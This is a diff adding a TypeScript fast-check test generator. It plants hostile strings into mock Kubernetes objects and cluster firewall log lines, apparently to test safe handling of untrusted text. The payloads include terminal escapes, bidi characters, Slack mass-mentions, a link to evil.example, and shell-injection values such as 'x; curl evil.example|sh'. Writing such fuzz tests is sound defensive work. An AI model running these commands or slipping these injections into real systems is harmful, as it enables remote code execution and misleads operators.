@@ -1,0 +1,219 @@
+/** What strangers may write: texts that are meant to harm who reads them, and the objects and lines that carry them. */
+import fc from 'fast-check';
+
+/** Stands in each text that a shell would run. */
+export const canary = '$(evil7)';
+
+const ascii = ['\0', '\t', '\n', '\r\n', '\u001b[2J', '\u001b]8;;https://evil.example\u0007', '\u007f'];
+const beyond = ['\u0085', '\u009b31m', '\u00ad', '\u061c', '\u200b', '\u200e', '\u202e', '\u2028', '\u2029', '\u2066'];
+const unseen = [...ascii, ...beyond, '\ufeff', '\u{e0041}', '\ud83d', '\udc00'];
+const mentions = ['<!channel>', '<!here|x>', '<@U012AB3CD>', '<!subteam^S012>', '<#C012>', '<', '&lt;!channel&gt;'];
+const markup = [...mentions, '<https://evil.example/x|Runbook>', 'https://evil.example/x', 'slack://user'];
+const shell = [canary, `\`${canary}\``, `';${canary};'`, `x; curl evil.example|sh #${canary}`, `"${canary}"`];
+
+/** One such text, alone or in another. */
+export const hostile: fc.Arbitrary<string> = fc
+  .array(
+    fc.oneof(
+      { weight: 3, arbitrary: fc.constantFrom(...unseen) },
+      { weight: 3, arbitrary: fc.constantFrom(...markup) },
+      { weight: 2, arbitrary: fc.constantFrom(...shell) },
+      fc.constantFrom(
+        'shop',
+        'web-0',
+        'calico-drop',
+        'KUBE-SVC-L6LPUQKLZFD5NUFY',
+        ' ',
+        '/',
+        '"',
+        '\\',
+        'é',
+        '拒否',
+        '🔥',
+      ),
+      fc.constantFrom('x'.repeat(300), '\u202e'.repeat(400), '<'.repeat(1100), '🔥'.repeat(700), 'a.'.repeat(130)),
+      fc.string({ unit: 'binary', maxLength: 12 }),
+    ),
+    { minLength: 1, maxLength: 4 },
+  )
+  .map((parts) => parts.join(''));
+
+const started = '2026-11-20T09:00:00Z';
+const status = (ip: string) => ({
+  phase: 'Running',
+  podIP: ip,
+  podIPs: [{ ip }],
+  startTime: started,
+  conditions: [{ type: 'Ready', status: 'False', reason: 'ContainersNotReady', message: 'not ready' }],
+  containerStatuses: [
+    { name: 'app', restartCount: 3, state: { waiting: { reason: 'CrashLoopBackOff', message: 'back-off' } } },
+  ],
+});
+const pod = (namespace: string, name: string, node: string, ip: string, more: object = {}) => ({
+  apiVersion: 'v1',
+  kind: 'Pod',
+  metadata: {
+    namespace,
+    name,
+    uid: `uid-${name}`,
+    resourceVersion: '7',
+    creationTimestamp: started,
+    labels: { 'pod-template-hash': '6c8d5f7b94', 'k8s-app': 'web' },
+    annotations: { 'kubernetes.io/config.mirror': 'd7a34c8439afd941b2d29fe850d9407f', note: 'x' },
+    ownerReferences: [
+      { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `${name}-6c8d5f7b94`, uid: 'u', controller: true },
+    ],
+    ...more,
+  },
+  spec: { nodeName: node, hostNetwork: name.startsWith('kube-proxy'), hostname: name },
+  status: status(ip),
+});
+
+/** A cluster of two nodes; its Pods and Services are those of `lines`. */
+const objects = [
+  pod('batch', 'worker-0', 'node-a', '10.244.0.41', { annotations: {} }),
+  pod('shop', 'postgres-0', 'node-b', '10.244.1.30'),
+  pod('kube-system', 'kube-proxy-x7k2p', 'node-b', '192.168.7.12', { annotations: {} }),
+  ...['node-a', 'node-b'].map((name, each) => ({
+    apiVersion: 'v1',
+    kind: 'Node',
+    metadata: {
+      name,
+      uid: `uid-${name}`,
+      resourceVersion: '3',
+      labels: { 'kubernetes.io/hostname': name },
+      annotations: { 'projectcalico.org/IPv4Address': `192.168.7.1${each + 1}/24` },
+    },
+    spec: { podCIDR: `10.244.${each}.0/24`, podCIDRs: [`10.244.${each}.0/24`], providerID: 'aws:///x' },
+    status: {
+      addresses: [
+        { type: 'InternalIP', address: `192.168.7.1${each + 1}` },
+        { type: 'Hostname', address: name },
+        { type: 'InternalDNS', address: `${name}.internal` },
+      ],
+    },
+  })),
+  {
+    apiVersion: 'v1',
+    kind: 'Service',
+    metadata: { namespace: 'shop', name: 'postgres', uid: 'uid-svc', resourceVersion: '5', labels: { app: 'x' } },
+    spec: {
+      clusterIP: '10.96.0.80',
+      clusterIPs: ['10.96.0.80'],
+      externalName: 'x',
+      ports: [{ name: 'postgres', port: 5432, protocol: 'TCP', targetPort: 'db' }],
+    },
+    status: { loadBalancer: { ingress: [{ ip: '203.0.113.80', hostname: 'lb.example.org' }] } },
+  },
+  {
+    apiVersion: 'discovery.k8s.io/v1',
+    kind: 'EndpointSlice',
+    metadata: {
+      namespace: 'shop',
+      name: 'postgres-x2x7k',
+      resourceVersion: '6',
+      labels: { 'kubernetes.io/service-name': 'postgres' },
+    },
+    addressType: 'IPv4',
+    ports: [{ name: 'postgres', port: 5432, protocol: 'TCP', appProtocol: 'x' }],
+    endpoints: [
+      {
+        addresses: ['10.244.1.30'],
+        hostname: 'postgres-0',
+        nodeName: 'node-b',
+        zone: 'z',
+        targetRef: { kind: 'Pod', namespace: 'shop', name: 'postgres-0', uid: 'u', fieldPath: 'x' },
+      },
+    ],
+  },
+  ...['default', 'node.node-b'].map((name) => ({
+    apiVersion: 'crd.projectcalico.org/v1',
+    kind: 'FelixConfiguration',
+    metadata: { name, annotations: { note: 'x' } },
+    spec: {
+      bpfEnabled: true,
+      logSeverityScreen: 'Error',
+      iptablesBackend: 'NFT',
+      nftablesMode: 'Disabled',
+      logPrefix: 'x',
+    },
+  })),
+];
+
+type Path = readonly (string | number)[];
+
+/** Every string in it, but for the kind that says what an object is. */
+function leavesOf(value: unknown, path: Path = []): Path[] {
+  if (typeof value === 'string') return path.length === 2 && path[1] === 'kind' ? [] : [path];
+  if (typeof value !== 'object' || value === null) return [];
+  return Object.entries(value).flatMap(([key, each]) => leavesOf(each, [...path, key]));
+}
+
+const leaves = leavesOf(objects);
+
+function put(into: unknown, path: Path, text: string): void {
+  let here = into as Record<string, unknown>;
+  for (const key of path.slice(0, -1)) here = here[key] as Record<string, unknown>;
+  here[path.at(-1) as string] = text;
+}
+
+/** The objects with a few of their strings replaced, or with something behind what they were. */
+export const strangeObjects: fc.Arbitrary<unknown[]> = fc
+  .array(fc.record({ path: fc.constantFrom(...leaves), text: hostile, behind: fc.boolean() }), { maxLength: 6 })
+  .map((changes) => {
+    const changed: unknown[] = structuredClone(objects);
+    for (const { path, text, behind } of changes) {
+      const before = path.reduce<unknown>((here, key) => (here as Record<string, unknown>)[key], objects) as string;
+      put(changed, path, behind ? before + text : text);
+    }
+    return changed;
+  });
+
+const quoted = (text: string): string => JSON.stringify(text).slice(1, -1);
+const header = 'LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=1 DF PROTO=TCP SPT=38736';
+
+/** Lines into which one text is put: each place where a writer of logs takes in a word of somebody else. */
+export const templates: readonly ((text: string, second: number) => string)[] = [
+  (text) => `node-b kernel: ${text}IN=eth0 OUT=eth1 SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5432 SYN`,
+  (text) => `node-b kernel: calico-drop: ${text} IN=eth0 OUT=eth1 SRC=203.0.113.9 DST=10.244.1.30 ${header} DPT=80 SYN`,
+  (text) => `node-b kernel: DROP: IN=${text} OUT=${text} SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5433 SYN`,
+  (text) => `${text} kernel: DROP: IN=eth0 OUT= SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5434 SYN`,
+  (text) => `node-b kernel: IPv4: martian source 10.244.1.30 from 10.244.0.41, on dev ${text.slice(0, 15)}`,
+  (text) => `node-b kernel: DROP: IN=eth0 OUT= SRC=${text} DST=10.244.1.30 ${header} DPT=${text}`,
+  (text) => `node-b ${text}[7]: DROP: IN=eth0 OUT= SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5435 SYN`,
+  (text) =>
+    `node-b ulogd[7]: {"oob.prefix":"DROP ${quoted(text)}","oob.in":"${quoted(text)}","src_ip":"10.244.0.41","dest_ip":"10.244.1.30","ip.protocol":6,"src_port":40000,"dest_port":5436}`,
+  (text) =>
+    `node-b ovn[7]: |00005|acl_log(ovn_pinctrl0)|INFO|name="${text}", verdict=drop, severity=alert: tcp,nw_src=10.244.0.41,nw_dst=10.244.1.30,tp_src=54343,tp_dst=53`,
+  (text) =>
+    `node-b antrea[7]: AntreaPolicyEgressRule AntreaNetworkPolicy:${text} Drop 44900 10.244.0.41 35402 10.244.1.30 80 TCP 60 [3 packets in 1.01s]`,
+  (text) =>
+    `node-b aws[7]: Node: ${text};SIP: 10.244.0.41;SPORT: 6;DIP: 10.244.1.30;DPORT: 5003;PROTOCOL: TCP;PolicyVerdict: DENY;Tier: ${text}`,
+  (text) =>
+    `node-b kube-proxy[12]: E1121 09:00:00.910840 1 proxier.go:1564] "Failed to execute iptables-restore" err="exit status 2: iptables-restore v1.8.9 (legacy): Couldn't load target \`KUBE-SVC-L6LPUQKLZFD5NUFY':No such file ${quoted(text)}" ipFamily="${quoted(text)}"`,
+  (text) =>
+    `node-b kube-proxy[12]: E1121 09:00:00.910840 1 proxier.go:1564] "Failed to ensure chain jumps" err="${quoted(text)}" dstChain="${quoted(text)}"`,
+  (text) =>
+    `node-b kube-proxy[12]: E1121 09:00:00.910840 1 proxier.go:1564] "Failed to execute iptables-restore" err="Bad argument \`${quoted(text)}'"`,
+  (text) =>
+    `node-b calico-node[12]: 2026-11-21 09:00:00.942 [WARNING][56] felix/table.go 654: Detected out-of-sync inserts, marking for resync chainName="${quoted(text)}"`,
+  (text) =>
+    `node-b calico-node[12]: 2026-11-21 09:00:00.942 [WARNING][56] felix/x.go 6: Profile not known or invalid, generating dummy profile profileID="${quoted(text)}"`,
+  (text) =>
+    `node-b calico-node[12]: 2026-11-21 09:00:00.942 [ERROR][56] felix/table.go 654: Failed to execute ip(6)tables-restore command errorOutput="${quoted(text)}" table="${quoted(text)}"`,
+  (text) => `node-b bird[12]: bird: Mesh_${text}: Error: Hold timer expired`,
+];
+
+/** Each line comes again after half a minute: what is said once is no incident. */
+export const strangeLog: fc.Arbitrary<string> = fc
+  .array(fc.record({ template: fc.constantFrom(...templates), text: hostile }), { minLength: 1, maxLength: 6 })
+  .map((entries) =>
+    [0, 30, 60]
+      .flatMap((second) =>
+        entries.map(({ template, text }, index) => {
+          const stamp = new Date(Date.UTC(2026, 10, 21, 9, 0, second + index / 10)).toISOString();
+          return `${stamp} ${template(text, second)}\n`;
+        }),
+      )
+      .join(''),
+  );
